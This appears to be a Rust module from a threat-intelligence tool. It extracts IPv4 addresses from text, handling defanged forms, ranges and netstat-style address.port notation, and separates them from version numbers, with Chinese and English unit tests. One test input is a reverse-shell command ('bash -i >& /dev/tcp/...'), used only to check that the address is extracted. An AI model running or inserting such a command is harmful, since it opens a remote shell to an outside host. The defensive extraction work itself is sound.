//! IPv4 addresses.
//!
//! Four numbers with dots between them are as often a version; `version` decides by the numbers and their context.

use std::net::Ipv4Addr;

use super::dotted::parse;
use super::finds::{Finds, Trust};
use super::range;
use super::version;
use super::word::Word;
use crate::article::EntityKind::Ipv4;
use crate::indicator::refang::is_marked;

/// Texts in the output of programs that list connections.
const PROGRAMS: [&str; 9] =
    ["ESTABLISHED", "LISTEN", "SYN_", "TIME_WAIT", "CLOSE_WAIT", "tcp", "udp", " > ", "Flags ["];

/// Bytes of the line that are searched for [`PROGRAMS`].
const MAX_LINE: usize = 120;

/// Adds the address in `word`, both ends of a range, or the address before a port.
pub(super) fn note(word: &Word<'_>, finds: &mut Finds) {
    let word = word.trimmed();
    let text = word.text();
    if let Some(address) = parse(text) {
        let trust = match version::trust(&word, address) {
            Trust::Against if !is_after_tilde(&word) => Trust::Against,
            Trust::Doubtful | Trust::Against if range::other_end(&word, address) => Trust::Likely,
            trust => trust,
        };
        finds.push(Ipv4, address.to_string(), trust, is_marked(text));
    } else if let Some((first, last)) =
        text.split_once('-').and_then(|(first, last)| range::ends(first, last))
    {
        for address in [first, last] {
            let trust = if range::is_plausible(first, last) { Trust::Likely } else { Trust::Doubtful };
            finds.push(Ipv4, address.to_string(), trust, is_marked(text));
        }
    } else if let Some(address) = before_port(&word) {
        finds.push(Ipv4, address.to_string(), Trust::Likely, is_marked(text));
    }
}

/// A tilde before a number marks a version, except at the end of a range.
fn is_after_tilde(word: &Word<'_>) -> bool {
    word.inside_before().ends_with('~')
}

/// The address of `45.77.12.9.4444`, as netstat and tcpdump write address and port.
///
/// Versions may have five numbers too, none of them over 255 as a rule; a port below that needs the words of such a
/// program on the line.
fn before_port(word: &Word<'_>) -> Option<Ipv4Addr> {
    let (address, port) = word.text().rsplit_once('.')?;
    let address =
        parse(address).filter(|&address| !version::looks_like_one(address) || address.is_private())?;
    let port = Some(port).filter(|port| !port.starts_with('0') && port.len() <= 5)?.parse::<u16>().ok()?;
    let is_listed = || {
        let before = word.chunk.before.rsplit('\n').next().unwrap_or_default();
        let after = word.chunk.after.split('\n').next().unwrap_or_default();
        let has = |text: &str| PROGRAMS.iter().any(|sign| text.contains(sign));
        has(&before[before.ceil_char_boundary(before.len().saturating_sub(MAX_LINE))..])
            || has(&after[..after.floor_char_boundary(MAX_LINE)])
    };
    (port > 255 || is_listed()).then_some(address)
}

/// Whether `word` is an address-like version such as `v1.2.3.4`, which is noted.
pub(super) fn note_version(word: &Word<'_>, finds: &mut Finds) -> bool {
    let Some(address) = word.trimmed().text().strip_prefix(['v', 'V']).and_then(parse) else { return false };
    finds.push(Ipv4, address.to_string(), Trust::Against, false);
    true
}

#[cfg(test)]
mod tests {
    use super::super::entities;
    use super::*;

    fn addresses(text: &str) -> Vec<String> {
        let found = entities("", text, &[]);
        found.into_iter().filter(|entity| entity.kind == Ipv4).map(|entity| entity.value).collect()
    }

    #[test]
    fn addresses_are_found() {
        let cases: [(&str, &[&str]); 31] = [
            ("来自 10.1.2.3 的扫描", &["10.1.2.3"]),
            ("10.1.2.3 发起的攻击", &["10.1.2.3"]),
            ("连接45.77.12.9上线", &["45.77.12.9"]),
            ("45[.]77[.]12[.]9", &["45.77.12.9"]),
            ("45.77.12[.]9:8443", &["45.77.12.9"]),
            ("ip：7.2.1.3", &["7.2.1.3"]),
            ("7.2.1.3:443", &["7.2.1.3"]),
            ("7[.]2[.]1[.]3", &["7.2.1.3"]),
            ("10.0.0.0/8", &["10.0.0.0"]),
            ("root@10.3.4.5", &["10.3.4.5"]),
            ("bash -i >& /dev/tcp/7.2.1.3/4444", &["7.2.1.3"]),
            ("45.77.12.9-45.77.12.20", &["45.77.12.20", "45.77.12.9"]),
            ("http://7.2.1.3/a", &["7.2.1.3"]),
            ("host=45.77.12.9;", &["45.77.12.9"]),
            ("45.77.12.9、91.92.250.4", &["45.77.12.9", "91.92.250.4"]),
            ("45.77.12.9.", &["45.77.12.9"]),
            ("256.1.1.1 与 1.2.3 与 1.2.3.4.5", &[]),
            ("ESTABLISHED 45.77.12.82.4444", &["45.77.12.82"]),
            ("tcp4 0 0 192.168.1.4.52110 45.77.12.82.443 ESTABLISHED", &["192.168.1.4", "45.77.12.82"]),
            ("45.77.12.82.80 45.77.12.82.99999 1.3.6.1.4 2.4.1.3.8080", &[]),
            ("封禁 45.77.13.0-45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0~45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0～45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0 - 45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0–45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0至45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.0 到 45.77.13.255", &["45.77.13.0", "45.77.13.255"]),
            ("45.77.13.7-20", &["45.77.13.20", "45.77.13.7"]),
            ("从 2.4.1.3 到 2.5.0.1", &[]),
            ("45.077.12.9", &[]),
            ("a45.77.12.9 45.77.12.9b", &[]),
        ];
        for (text, expected) in cases {
            assert_eq!(addresses(text), expected, "{text}");
        }
    }

    #[test]
    fn versions_are_no_addresses() {
        let cases = [
            "v2.4.1.3",
            "版本 45.77.12.9",
            "受影响的版本包括 45.77.12.9",
            "45.77.12.9 及以下版本",
            "45.77.12.9之前的版本",
            "Firmware 45.77.12.9",
            "before 10.0.0.1",
            "< 45.77.12.9",
            "<=45.77.12.9",
            "foo==45.77.12.9",
            "Browser/120.0.1.2",
            "foo-1.2.3.4",
            "1.2.3.4-beta",
            "2.4.1.3、2.5.0.1",
            "versions 100.120.140.9, 101.120.140.9 and 102.120.140.9",
            "1.1.1.1 概述",
            "0.1.2.3",
            "Product 75.0.1.99",
        ];
        for text in cases {
            assert_eq!(addresses(text), [""; 0], "{text}");
        }
    }
}
